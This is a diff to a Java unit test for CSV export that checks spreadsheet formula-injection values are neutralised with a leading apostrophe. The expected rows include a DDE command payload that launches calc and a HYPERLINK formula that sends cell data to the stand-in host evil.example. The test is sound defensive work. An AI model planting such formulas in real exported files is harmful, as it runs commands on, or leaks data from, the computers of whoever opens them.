@@ -41,15 +41,15 @@ class SafeOutputTest {
             String.join(",", ResultFiles.CSV_COLUMNS) + ",hostile,s1",
             // the node columns' titles: the section's is a formula, neutralised like any text
             ",".repeat(ResultFiles.CSV_COLUMNS.size()) + "恶意输入,\"'=SUM(1,2)\"",
-            "awards,'=cmd|' /C calc'!A0,,g,,90,90,90,,1,1,9,'=1+1,,,,false,,,90,90",
-            "awards,'@SUM(A1:A2),,g,,89,89,89,,2,2,8,,,,,false,,,89,89",
-            "awards,'+1,,g,,88,88,88,,3,3,7,,,,,false,,,88,88",
-            "awards,'-2+3,,g,,87,87,87,,4,4,6,,,,,false,,,87,87",
-            "awards,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"查看\"\")\",,g,,86,86,86,,5,5,5,,,,,false,,,86,86",
-            "awards,'\t=1+1,,g,,85,85,85,,6,6,4,,,,,false,,,85,85",
-            "awards,''=1+1,,g,,84,84,84,,7,7,3,,,,,false,,,84,84",
-            "awards,-5,,g,,83,83,83,,8,8,2,,,,,false,,,83,83",
-            "awards,plain,,g,,82,82,82,,9,9,1,,,,,false,,,82,82",
+            "awards,'=cmd|' /C calc'!A0,,g,,90,90,90,,1,1,9,'=1+1,,,,false,,,,90,90",
+            "awards,'@SUM(A1:A2),,g,,89,89,89,,2,2,8,,,,,false,,,,89,89",
+            "awards,'+1,,g,,88,88,88,,3,3,7,,,,,false,,,,88,88",
+            "awards,'-2+3,,g,,87,87,87,,4,4,6,,,,,false,,,,87,87",
+            "awards,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"查看\"\")\",,g,,86,86,86,,5,5,5,,,,,false,,,,86,86",
+            "awards,'\t=1+1,,g,,85,85,85,,6,6,4,,,,,false,,,,85,85",
+            "awards,''=1+1,,g,,84,84,84,,7,7,3,,,,,false,,,,84,84",
+            "awards,-5,,g,,83,83,83,,8,8,2,,,,,false,,,,83,83",
+            "awards,plain,,g,,82,82,82,,9,9,1,,,,,false,,,,82,82",
             "");
   }
 
